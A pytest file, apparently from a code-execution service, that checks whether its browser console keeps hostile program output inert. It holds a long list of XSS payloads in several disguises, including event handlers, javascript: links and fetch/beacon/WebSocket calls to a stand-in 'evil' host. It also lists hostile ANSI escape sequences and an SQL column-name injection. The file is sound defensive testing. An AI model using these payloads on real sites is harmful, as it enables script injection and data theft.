"""Hostile output of programs in the console (R8.3): no script runs, nothing is requested, nothing is hidden.

One page shows hundreds of outputs, so that the browser is started once."""

import http.server
import json
import threading

import pytest

import browser
from harness import SOAK
from service import Service

pytestmark = pytest.mark.release_only  # the browser takes most of the time


class Listener(http.server.BaseHTTPRequestHandler):
    """Notes every request that an output makes."""

    seen = []

    def do_GET(self):
        Listener.seen.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def evil():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


@pytest.fixture(scope="module")
def service():
    with Service("--set", "limits.output.max=256m") as s:
        yield s


@pytest.fixture(scope="module")
def tab(service):
    with browser.Browser(service) as b:
        yield b
        b.js("sessionStorage.removeItem('problems')")  # each test has looked at them


OWNED = "(top.owned=1,parent.owned=1,window.owned=1,document.title='owned')"


def markup(evil):
    """Elements that run a script or ask for something, each in several disguises."""
    vectors = [
        f"<script>{OWNED}</script>", f"<script src={evil}/s.js></script>", f"<img src={evil}/i.png>",
        f"<img src=x onerror=\"{OWNED}\">", f"<svg onload=\"{OWNED}\"></svg>", f"<svg><script>{OWNED}</script></svg>",
        f"<svg><image href={evil}/svg.png /></svg>", f"<svg><use href='{evil}/u.svg#x'/></svg>",
        f"<iframe src={evil}/f></iframe>", f"<iframe srcdoc=\"<script>{OWNED}</script>\"></iframe>",
        f"<object data={evil}/o></object>", f"<embed src={evil}/e>", f"<link rel=stylesheet href={evil}/c.css>",
        f"<link rel=prefetch href={evil}/p>", f"<link rel=dns-prefetch href=//leak.example>",
        f"<style>@import '{evil}/im.css'; body{{background:url({evil}/bg)}}</style>", f"<base href={evil}/>",
        f"<meta http-equiv=refresh content='0;url={evil}/m'>",
        f"<form action={evil}/form><input autofocus onfocus=\"{OWNED}\"></form>",
        f"<video src={evil}/v autoplay></video>", f"<audio src={evil}/a autoplay></audio>",
        f"<video poster={evil}/poster></video>", f"<input type=image src={evil}/in>", f"<body onload=\"{OWNED}\">",
        f"<details open ontoggle=\"{OWNED}\">", f"<a href=\"javascript:{OWNED}\" id=click>x</a>",
        f"<a href={evil}/ping ping={evil}/ping>x</a>", f"<div style=\"background:url({evil}/st)\">x</div>",
        f"<math><mi href={evil}/mi>x</mi></math>", f"<template><script>{OWNED}</script></template>",
        f"<noscript><img src={evil}/ns></noscript>", f"<portal src={evil}/po></portal>",
        f"<marquee onstart=\"{OWNED}\">",
        f"<table background={evil}/tb>", f"<frameset onload=\"{OWNED}\">", f"<applet code={evil}/ap>",
        f"--><script>{OWNED}</script>", f"]]><script>{OWNED}</script>", f"</textarea></title><script>{OWNED}</script>",
        f"<script>fetch('{evil}/fetch')</script>", f"<script>new Image().src='{evil}/img'</script>",
        f"<script>navigator.sendBeacon('{evil}/beacon','x')</script>", f"<script>location='{evil}/nav'</script>",
        f"<script>top.location='{evil}/top'</script>", f"<script>open('{evil}/open')</script>",
        f"<script>new WebSocket('{evil.replace('http', 'ws')}/ws')</script>",
        f"<script>new EventSource('{evil}/es')</script>",
        f"<script>new Worker(URL.createObjectURL(new Blob(['fetch(\"{evil}/wk\")'])))</script>",
        f"<script>new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:9'}}]}}).createDataChannel('x')</script>",
        f"<script>parent.postMessage('x','*');parent.document.title='owned'</script>",
        f"<script>document.cookie='a=b';localStorage.x=1</script>",
        f"<script>while(0);throw new Error('boom')</script>",
    ]
    disguises = [lambda v: v, str.upper, lambda v: v.replace("<", "<\x00"), lambda v: v.replace(" ", "/"),
                 lambda v: "\u202e" + v + "\u2066"]
    return [d(v) for v in vectors for d in disguises]


ANSI = [
    "\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07", "\x1b]0;owned\x07title", "\x1b[2J\x1b[H\x1b[999Aup",
    "\x1b[8mhidden\x1b[0m",
    "\x1b[31;1;4;7mloud", "\x1b[38;5;999m", "\x1b[38;2;999;999;999mrgb", "\x1b[" + "1;" * 5000 + "m",
    "\x1b]" + "x" * 20000, "\x1b[",
    "\x1bP1$r0m\x1b\\dcs", "\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1b[6n", "\x1bc", "\x1b[?1049h",
    "\x1b]52;c;b3duZWQ=\x07clip",
    "\x9b31mc1", "a\rb", "a\x08\x08b", "\x07\x07", "\x00nul", "\x7fdel", "\ufeffbom", "\u2028ls\u2029ps",
    "\U000e0041tag",
    "e" + "\u0301" * 500, "\u202eevil\u202c", "\u2066a\u2069", "\u200b\u200c\u200d", "\ufff9x\ufffa",
    "🏴" * 200, "\ud83d".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "x" * 300000, "\t" * 1000, "\u3164\u115f\u1160",
]


HOSTILE_SQL = """select 1 as "<img src=EVIL/col onerror=alert(1)>", '<script>top.owned=1</script>' as "b";"""


def run_and_open(tab, service, code, **fields):
    run_id = service.run(code, **{"limits": {"output": "64m", "wall_ms": "60s"}, **fields})["id"]
    tab.open("icon.svg")
    tab.open(f"#/runs/{run_id}")
    tab.over()
    return run_id


def sealed(tab, evil):
    assert Listener.seen == [], Listener.seen
    assert tab.js("return [window.owned, document.title, location.origin, document.cookie]") == [
        None, "Run · Belljar", f"http://127.0.0.1:{tab.service.port}", ""]
    loaded = tab.js("return performance.getEntriesByType('resource').map((e) => new URL(e.name).host)")
    assert set(loaded) <= {f"127.0.0.1:{tab.service.port}"}
    # A frame that tries to leave is held by the policy of the page, which says so. Nothing else is said.
    assert [p for p in tab.problems() if not p.startswith(f"policy: frame-src {evil}")] == []


def test_console_hostile_text_stays_text(tab, service, evil):
    """260 pieces of markup and 36 of control characters, on both streams, every one of them drawn once."""
    texts = markup(evil) + ANSI
    assert len(texts) > 290
    run_and_open(tab, service, f"import sys, json\nfor t in json.loads({json.dumps(texts)!r}):\n"
                 "    print(t); print(t, file=sys.stderr)\nprint('the end')")
    seen = ""
    height = tab.js("return document.querySelector('.output').scrollHeight")
    step = tab.js("return document.querySelector('.output').clientHeight")
    for top in range(0, height, max(200, step)):
        tab.js("document.querySelector('.output').scrollTop = arguments[0]", top)
        tab.driver.execute_async_script(
            "const done = arguments[0]; requestAnimationFrame(() => requestAnimationFrame(() => done()))")
        seen += tab.output()
        assert tab.js("return document.querySelectorAll('.output :not(div, span)').length") == 0
    assert "<script>" in seen and "U+202E" in seen and "U+0000" in seen and "http://evil.example/" not in seen
    sealed(tab, evil)


def test_console_hostile_displays_are_sealed(tab, service, evil):
    """HTML and SVG as rich output: SVG is an image, HTML is shown in the frame after a click, many in one page."""
    pages = markup(evil)[::5]
    half = len(pages) // 2
    pages = ["".join(pages[:half]), "".join(pages[half:]), *pages[-3:],
             "<script>throw new Error('in the frame')</script>"]
    svg = (f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{OWNED}\"><script>{OWNED}</script>"
           f"<image href='{evil}/svg-image'/><rect width='9' height='9'/></svg>")
    code = ("from IPython.display import display, HTML, SVG, Markdown, Javascript\nimport json\n"
            f"for p in json.loads({json.dumps(pages)!r}): display(HTML(p))\n"
            f"display(SVG(data={svg!r}))\ndisplay(Markdown({pages[0]!r}))\ndisplay(Javascript({OWNED!r}))\n"
            f"display({{'text/plain': {pages[1]!r}, 'application/x-evil<script>': {OWNED!r}}}, raw=True)")
    run_and_open(tab, service, code, language="python", display=True)
    assert not tab.has("iframe")
    tab.js("[...document.querySelectorAll('.frame-ask button')].forEach((b) => b.click())")
    tab.until(lambda: tab.js("return document.querySelectorAll('iframe').length") == len(pages))
    tab.settle()
    assert tab.js("return [...document.querySelectorAll('iframe')].every((f) => f.sandbox.value === 'allow-scripts')")
    inside = "return document.querySelectorAll('.result :is(script, svg[onload], object, embed, link)').length"
    assert tab.js(inside) == 0
    sealed(tab, evil)
    assert tab.axe() == []


def test_console_hostile_names_are_text(tab, service, evil):
    """Names of files, columns and variables, arguments, titles."""
    evil_name = "<img src=x onerror=alert(1)>.svg"
    picture = f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{evil}/file'/><script>{OWNED}</script></svg>"
    run_and_open(tab, service, f"open({evil_name!r}, 'w').write({picture!r})\nopen('\\u202egnp.exe', 'w').write('x')",
                 outputs=[evil_name, "\u202egnp.exe"], args=["<script>alert(1)</script>"], metadata={"<b>": evil})
    tab.until(lambda: evil_name in tab.text(".result"))
    run_and_open(tab, service, HOSTILE_SQL.replace("EVIL", evil),
                 language="sqlite")
    assert "<script>" in tab.text(".result")
    sealed(tab, evil)


def test_console_ten_thousand_images_do_not_stop_it(tab, service, evil):
    """As many as a run may keep; the page answers while they are there."""
    code = ("from IPython.display import display, Image\nimport base64\n"
            "dot = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'\n"
            "    '+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')\n"
            "for i in range(10000): display(Image(data=dot, format='png'))")
    run_and_open(tab, service, code, language="python", display=True, limits={"wall_ms": "100s"})
    tab.until(lambda: tab.js("return document.querySelectorAll('.result img').length") > 200)
    tab.press("stderr")
    tab.press("All")
    sealed(tab, evil)


def test_console_older_lines_are_read_from_the_service(tab, service, evil):
    """The page keeps the newest 8 MiB, and the rest is read in parts."""
    code = "line = 'y' * 99\nfor i in range(200000): print(line)\nprint('the end')"
    run_id = run_and_open(tab, service, code, limits={"output": "64m", "wall_ms": "100s"})
    tab.until(lambda: tab.output().endswith("the end"))
    assert int(tab.service.get(f"/v1/runs/{run_id}").json["stdout_bytes"]) == 20_000_008
    assert tab.js("return document.querySelectorAll('.output .row').length") < 150
    tab.press("Read older lines")
    tab.until(lambda: tab.js("return document.querySelectorAll('.older-lines .row').length") > 10)
    assert "of 19.1 MiB" in tab.text(".dialog")
    assert tab.axe() == []
    tab.press("Later")
    tab.until(lambda: "256 KiB to 512 KiB" in tab.text(".dialog"))


@pytest.mark.skipif(not SOAK, reason="takes a minute: it is in the group soak")
def test_console_takes_100_megabytes_and_a_million_lines(tab, service, evil):
    """Long lines and very many lines: the page stays small, answers, and has the end of the output."""
    code = "import sys\nfor i in range(100): sys.stdout.write('z' * 999_999 + '\\n')\nprint('the end of 100 MB')"
    run_id = run_and_open(tab, service, code, limits={"output": "256m", "wall_ms": "4m"})
    tab.until(lambda: tab.output().endswith("the end of 100 MB"))
    assert service.get(f"/v1/runs/{run_id}").json["stdout_bytes"] > 100_000_000
    run_and_open(tab, service, "for i in range(1000000): print(i)", limits={"output": "256m", "wall_ms": "4m"})
    tab.until(lambda: tab.output().endswith("999999"))
    assert tab.js("return document.querySelectorAll('.output .row').length") < 150
    assert tab.js("return performance.memory.usedJSHeapSize") < 200e6
    sealed(tab, evil)
